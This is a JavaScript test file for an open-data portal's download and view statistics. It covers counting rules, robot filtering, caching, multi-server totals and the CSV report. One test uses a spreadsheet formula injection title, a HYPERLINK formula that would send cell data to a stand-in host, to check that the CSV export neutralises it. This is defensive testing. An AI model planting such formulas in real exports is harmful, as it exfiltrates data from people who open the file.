// Honest statistics over HTTP: every kind of download (files by both routes, table exports in
// every format, dumps) and every dataset or table page view is counted, nothing else is; the
// figures are the same in /api/v1/stats, its CSV and the statistics page; an anonymous visitor
// sees a new download on the cached dataset page within a second or two; counts are written in
// batches, add up across servers on one database and survive a restart. A visitor counts once an
// hour for the same thing and robots never (catalog/visit_filter.h): the tests speak as many
// visitors through X-Forwarded-For, which the server believes from loopback here.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, call, addUser } from './harness.mjs';

const PLACES = [
  'Tên địa điểm,Loại,Vĩ độ,Kinh độ,Lượt khách',
  'Đại Nội Huế,Di tích,16.4698,107.5786,12000',
  'Chùa Thiên Mụ,Di tích,16.4536,107.5446,8000',
  'Chợ Đông Ba,Chợ,16.4727,107.5886,5000',
].join('\n') + '\n';

// Counts reach the database every 100 ms, and a server with nothing to write re-reads the
// others' every 1.2 s (12 intervals).
const env = { ODP_USAGE_FLUSH_MS: '100', ODP_TRUSTED_PROXIES: '127.0.0.1,::1' };
let visitors = 0;
// A new visitor's headers (one more address).
const fresh = (more = {}) => ({ headers: { 'X-Forwarded-For': `198.51.${++visitors >> 8}.${visitors & 255}`, ...more } });
let srv;
let root;
let slug;
let datasetId;
let rid;

async function datasetStats(server = srv) {
  const r = await call(server, 'GET', `/api/v1/stats/datasets/${slug}`);
  assert.equal(r.status, 200, r.text);
  return r.json;
}

async function eventually(check, what, ms = 5000) {
  const start = Date.now();
  for (;;) {
    const v = await check();
    if (v) return Date.now() - start;
    if (Date.now() - start > ms) throw new Error(`${what}: not within ${ms} ms`);
    await new Promise((res) => setTimeout(res, 50));
  }
}

before(async () => {
  srv = await startServer({ demo: true, env });
  root = addUser(srv, 'goc', { sysadmin: true });
  const d = await call(srv, 'POST', '/api/v1/datasets', {
    token: root,
    body: { title_vi: 'Điểm tham quan Huế', title_en: 'Places to visit in Huế', organization: 'so-du-lich',
            license_id: 'cc-by', access: 'public' },
  });
  assert.equal(d.status, 201, d.text);
  slug = d.json.slug;
  datasetId = d.json.id;
  const fd = new FormData();
  fd.append('name', 'Điểm tham quan');
  fd.append('upload', new Blob([Buffer.from(PLACES, 'utf8')]), 'diem-tham-quan.csv');
  const up = await call(srv, 'POST', `/api/v1/datasets/${slug}/resources`, { token: root, body: fd });
  assert.equal(up.status, 201, up.text);
  rid = up.json.id;
  const pub = await call(srv, 'POST', `/api/v1/datasets/${slug}/publish`, { token: root, body: {} });
  assert.equal(pub.status, 200, pub.text);
  await eventually(async () => {
    const r = await call(srv, 'GET', `/api/v1/resources/${rid}/datastore`, { token: root });
    return r.json.job && r.json.job.state === 'done';
  }, 'the table loaded', 20000);
});
after(async () => { await srv.stop(); });

const EXPORTS = ['csv', 'tsv', 'json', 'ndjson', 'geojson', 'xlsx', 'datapackage'];

test('downloads of every kind are counted by format; HEAD, ranges, 304s and errors are not', async () => {
  const before = await datasetStats();
  assert.deepEqual(before.total, { views: 0, downloads: 0 });
  // The stored file, by the REST route and by CKAN's.
  const file = await call(srv, 'GET', `/api/v1/resources/${rid}/download`, fresh());
  assert.equal(file.status, 200);
  assert.equal((await call(srv, 'GET', `/dataset/${datasetId}/resource/${rid}/download/diem-tham-quan.csv`, fresh())).status, 200);
  // Not downloads: a HEAD, a range, a 304, a bad export format, an unknown resource.
  assert.equal((await call(srv, 'HEAD', `/api/v1/resources/${rid}/download`)).status, 200);
  assert.equal((await call(srv, 'GET', `/api/v1/resources/${rid}/download`, { headers: { Range: 'bytes=0-9' } })).status, 206);
  const etag = file.headers.get('etag');
  assert.ok(etag);
  assert.equal((await call(srv, 'GET', `/api/v1/resources/${rid}/download`, { headers: { 'If-None-Match': etag } })).status, 304);
  assert.equal((await call(srv, 'GET', `/api/v1/resources/${rid}/export?format=xml`)).status, 400);
  assert.equal((await call(srv, 'HEAD', `/api/v1/resources/${rid}/export?format=csv`)).status, 200);
  // The map of a GeoJSON file reads it with ?view=map (web/static/map.js): a page view, not a download.
  assert.equal((await call(srv, 'GET', `/dataset/${datasetId}/resource/${rid}/download/diem-tham-quan.csv?view=map`, fresh())).status, 200);
  // Table exports in every format, and the dump in two.
  for (const format of EXPORTS) {
    const r = await call(srv, 'GET', `/api/v1/resources/${rid}/export?format=${format}`, fresh());
    assert.equal(r.status, 200, `${format}: ${r.text.slice(0, 200)}`);
  }
  assert.equal((await call(srv, 'GET', `/datastore/dump/${rid}`, fresh())).status, 200);
  assert.equal((await call(srv, 'GET', `/datastore/dump/${rid}?format=json`, fresh())).status, 200);

  const after = await datasetStats();
  assert.equal(after.total.downloads, 2 + EXPORTS.length + 2);
  assert.deepEqual(Object.fromEntries(after.formats.map((f) => [f.format, f.downloads])), {
    file: 2, csv: 2, tsv: 1, json: 2, ndjson: 1, geojson: 1, xlsx: 1, datapackage: 1,
  });
  assert.equal(after.resources.length, 1);
  assert.equal(after.resources[0].id, rid);
  assert.equal(after.resources[0].downloads, 11);
  assert.equal(after.this_month.downloads, 11);
  assert.equal(after.months.at(-1).month, after.this_month.month);

  // The portal's figures agree, and name the dataset and its agency.
  const all = (await call(srv, 'GET', '/api/v1/stats')).json;
  assert.equal(all.top_downloaded[0].slug, slug);
  assert.equal(all.top_downloaded[0].downloads, 11);
  assert.equal(all.top_downloaded[0].title, 'Điểm tham quan Huế');
  const agency = all.organizations.find((o) => o.slug === 'so-du-lich');
  assert.ok(agency, JSON.stringify(all.organizations));
  assert.equal(agency.downloads, 11);
  assert.ok(all.total.downloads >= 11);
  assert.equal(all.formats.find((f) => f.format === 'xlsx').downloads, 1);
});

test('views of the dataset page count also when the page cache answers, and table pages count', async () => {
  const before = (await datasetStats()).total.views;
  // Anonymous: the first builds the page, the next ones come from the page cache.
  for (let i = 0; i < 3; i++) assert.equal((await call(srv, 'GET', `/datasets/${slug}`, fresh())).status, 200);
  assert.equal((await call(srv, 'GET', `/en/datasets/${slug}`, fresh())).status, 200);
  assert.equal((await call(srv, 'GET', `/datasets/${slug}`, { token: root, ...fresh() })).status, 200);
  assert.equal((await call(srv, 'GET', `/datasets/${slug}/resources/${rid}`, fresh())).status, 200);
  // An unknown dataset is no view.
  assert.equal((await call(srv, 'GET', '/datasets/khong-co')).status, 404);
  const s = await datasetStats();
  assert.equal(s.total.views - before, 6);
  assert.equal(s.resources[0].views, 1);
  const top = (await call(srv, 'GET', '/api/v1/stats')).json.top_viewed;
  assert.equal(top[0].slug, slug);
});

test('an anonymous visitor sees a new download on the cached dataset page within two seconds', async () => {
  const count = (html) => Number((html.match(/class="usage-downloads">([0-9.]+)</) || [])[1].replace(/\./g, ''));
  const first = await call(srv, 'GET', `/datasets/${slug}`);
  const shown = count(first.text);
  assert.equal(shown, (await datasetStats()).total.downloads);
  // Cached now: the same page again, then a download of a kind that was never counted before.
  assert.equal(count((await call(srv, 'GET', `/datasets/${slug}`)).text), shown);
  assert.equal((await call(srv, 'GET', `/api/v1/resources/${rid}/export?format=geojson`, fresh())).status, 200);
  const took = await eventually(async () => count((await call(srv, 'GET', `/datasets/${slug}`)).text) === shown + 1,
    'the cached page shows the download', 2000);
  assert.ok(took <= 2000);
  // The home page's monthly figure is live as well.
  const home = await call(srv, 'GET', '/');
  const all = (await call(srv, 'GET', '/api/v1/stats')).json;
  assert.match(home.text, new RegExp(`<strong>${all.this_month.downloads}</strong> lượt tải trong tháng này`));
});

test('a visitor counts once an hour for the same thing, also through the page cache; robots never', async () => {
  const before = (await datasetStats()).total;
  const me = fresh();
  // The same visitor: the dataset page four times (built once, then from the page cache), the
  // same export twice, the file by both routes; then the same address with another User-Agent.
  for (let i = 0; i < 4; i++) assert.equal((await call(srv, 'GET', `/datasets/${slug}`, me)).status, 200);
  for (let i = 0; i < 2; i++) {
    assert.equal((await call(srv, 'GET', `/api/v1/resources/${rid}/export?format=csv`, me)).status, 200);
  }
  assert.equal((await call(srv, 'GET', `/api/v1/resources/${rid}/download`, me)).status, 200);
  assert.equal((await call(srv, 'GET', `/dataset/${datasetId}/resource/${rid}/download/diem-tham-quan.csv`, me)).status, 200);
  const otherAgent = { headers: { ...me.headers, 'User-Agent': 'curl/7.88.1' } };
  assert.equal((await call(srv, 'GET', `/datasets/${slug}`, otherAgent)).status, 200);
  // Robots, each from an address of its own, through the cache and not.
  for (const agent of ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'facebookexternalhit/1.1', 'Mozilla/5.0 (compatible; coccocbot-web/1.0)']) {
    assert.equal((await call(srv, 'GET', `/datasets/${slug}`, fresh({ 'User-Agent': agent }))).status, 200);
    assert.equal((await call(srv, 'GET', `/api/v1/resources/${rid}/download`, fresh({ 'User-Agent': agent }))).status, 200);
  }
  // A second visitor counts again; the first one's table page is a thing of its own.
  assert.equal((await call(srv, 'GET', `/datasets/${slug}`, fresh())).status, 200);
  assert.equal((await call(srv, 'GET', `/datasets/${slug}/resources/${rid}`, me)).status, 200);
  const after = (await datasetStats()).total;
  assert.equal(after.views - before.views, 3, 'one page view by each visitor and one table view');
  assert.equal(after.downloads - before.downloads, 2, 'one CSV export and one file');
  // Without a trusted proxy the address is the peer's: a loop from one client counts once.
  const srvBefore = (await datasetStats()).total.downloads;
  const plain = await startServer({ shared: srv.dir, env: { ODP_USAGE_FLUSH_MS: '100' } });
  try {
    const start = (await datasetStats(plain)).total.downloads;
    for (let i = 0; i < 5; i++) {
      assert.equal((await call(plain, 'GET', `/api/v1/resources/${rid}/export?format=tsv`, fresh())).status, 200);
    }
    assert.equal((await datasetStats(plain)).total.downloads - start, 1);
  } finally {
    await plain.stop();
  }
  // The next tests count from here: wait until this server has read the other's count.
  await eventually(async () => (await datasetStats()).total.downloads === srvBefore + 1, 'the count of the other server', 6000);
});

test('the statistics page, its CSV and the API show the same figures, in both languages', async () => {
  const api = (await call(srv, 'GET', '/api/v1/stats')).json;
  const vi = await call(srv, 'GET', '/thong-ke');
  assert.equal(vi.status, 200);
  assert.match(vi.text, /<h1>Thống kê sử dụng<\/h1>/);
  assert.match(vi.text, /id="stats-months"/);
  assert.match(vi.text, /Được tải nhiều nhất/);
  assert.match(vi.text, new RegExp(`<a href="/datasets/${slug}">Điểm tham quan Huế</a>`));
  assert.match(vi.text, new RegExp(`id="stats-total-downloads">${api.total.downloads}<`));
  assert.match(vi.text, /href="\/en\/statistics"/);
  assert.match(vi.text, /chart\.umd\.min\.[0-9a-f]{10}\.js/);
  assert.doesNotMatch(vi.text, /<script>(?!\s*$)/);
  const en = await call(srv, 'GET', '/en/statistics');
  assert.equal(en.status, 200);
  assert.match(en.text, /<h1>Usage statistics<\/h1>/);
  assert.match(en.text, /Places to visit in Huế/);
  assert.match(en.text, /Most downloaded/);

  const csv = await call(srv, 'GET', '/api/v1/stats?format=csv');
  assert.equal(csv.status, 200);
  assert.match(csv.headers.get('content-type'), /^text\/csv/);
  const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\r\n');
  assert.equal(lines[0], 'month,dataset,title,title_en,organization,views,downloads');
  const mine = lines.find((l) => l.includes(`,${slug},`));
  assert.ok(mine, csv.text);
  const cells = mine.split(',');
  const stats = await datasetStats();
  assert.equal(cells[0], stats.this_month.month);
  assert.equal(cells[4], 'so-du-lich');
  assert.equal(Number(cells[5]), stats.this_month.views);
  assert.equal(Number(cells[6]), stats.this_month.downloads);
  assert.equal((await call(srv, 'GET', '/api/v1/stats?format=xml')).status, 400);
  // The figures of a dataset the caller may not read are a 404, as the dataset is.
  assert.equal((await call(srv, 'GET', '/api/v1/stats/datasets/khong-co')).status, 404);
});

test('counts add up across servers on one database and survive a restart', async () => {
  const start = (await datasetStats()).total.downloads;
  const b = await startServer({ shared: srv.dir, env });
  try {
    for (let i = 0; i < 2; i++) assert.equal((await call(b, 'GET', `/api/v1/resources/${rid}/download`, fresh())).status, 200);
    assert.equal((await datasetStats(b)).total.downloads, start + 2);
    // The first server sees them after b's flush and its own re-read (about 1.2 s).
    await eventually(async () => (await datasetStats()).total.downloads === start + 2, 'the other server counts', 6000);
    assert.equal((await call(srv, 'GET', `/api/v1/resources/${rid}/download`, fresh())).status, 200);
  } finally {
    await b.stop();
  }
  // A restarted server reads what both wrote; the last flush ran at b's shutdown.
  await eventually(async () => (await datasetStats()).total.downloads === start + 3, 'the first server flushed');
  const c = await startServer({ shared: srv.dir, env });
  try {
    assert.equal((await datasetStats(c)).total.downloads, start + 3);
  } finally {
    await c.stop();
  }
});

// A title is written by a publisher; the report is opened in Excel. And a figure over datasets
// the visitor may not read would tell when they are used (security review of this work).
test('no title runs as a formula in the CSV, and the home page counts only what the visitor may read', async () => {
  const make = async (title, access) => {
    const d = await call(srv, 'POST', '/api/v1/datasets', {
      token: root, body: { title_vi: title, organization: 'so-du-lich', license_id: 'cc-by', access },
    });
    assert.equal(d.status, 201, d.text);
    const fd = new FormData();
    fd.append('upload', new Blob([Buffer.from('Tên,Số\nA,1\n', 'utf8')]), 'bang.csv');
    const up = await call(srv, 'POST', `/api/v1/datasets/${d.json.slug}/resources`, { token: root, body: fd });
    assert.equal(up.status, 201, up.text);
    const pub = await call(srv, 'POST', `/api/v1/datasets/${d.json.slug}/publish`, { token: root, body: {} });
    assert.equal(pub.status, 200, pub.text);
    return { slug: d.json.slug, rid: up.json.id };
  };
  const formula = await make('=HYPERLINK("http://x.example/?"&A1,"Bấm")', 'public');
  const hidden = await make('Bảng lương nội bộ', 'internal');
  assert.equal((await call(srv, 'GET', `/api/v1/resources/${formula.rid}/download`)).status, 200);
  await eventually(async () => (await call(srv, 'GET', '/api/v1/stats?format=csv')).text.includes(`,${formula.slug},`),
    'the CSV lists the dataset');
  const csv = (await call(srv, 'GET', '/api/v1/stats?format=csv')).text;
  const line = csv.split('\r\n').find((l) => l.includes(`,${formula.slug},`));
  assert.ok(line.includes(`,"'=HYPERLINK(""http://x.example/?""&A1,""Bấm"")",`), line);

  const homeCount = async () => Number(((await call(srv, 'GET', '/')).text
    .match(/<strong>([0-9.]+)<\/strong> lượt tải trong tháng này/) || [])[1].replace(/\./g, ''));
  const monthOf = async (token) => (await call(srv, 'GET', '/api/v1/stats', { token })).json.this_month.downloads;
  await eventually(async () => (await homeCount()) === (await monthOf()), 'the home page shows the public figure');
  const shown = await homeCount();
  const rootBefore = await monthOf(root);
  assert.equal((await call(srv, 'GET', `/api/v1/resources/${hidden.rid}/download`, { token: root, ...fresh() })).status, 200);
  await eventually(async () => (await monthOf(root)) === rootBefore + 1, 'the download of the hidden dataset is counted');
  await new Promise((res) => setTimeout(res, 1200)); // past the home page's cache
  assert.equal(await homeCount(), shown);
  assert.equal(await monthOf(), shown);
});
